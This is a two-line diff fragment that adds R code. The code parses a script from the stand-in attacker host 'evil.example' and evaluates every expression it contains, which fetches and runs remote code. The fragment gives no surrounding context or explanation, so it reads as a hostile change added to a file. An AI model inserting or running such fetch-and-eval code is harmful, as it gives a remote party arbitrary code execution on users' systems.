@@ -1,0 +1,2 @@
+exprs <- parse(file = "http://evil.example/a.R")
+sapply(exprs, eval)
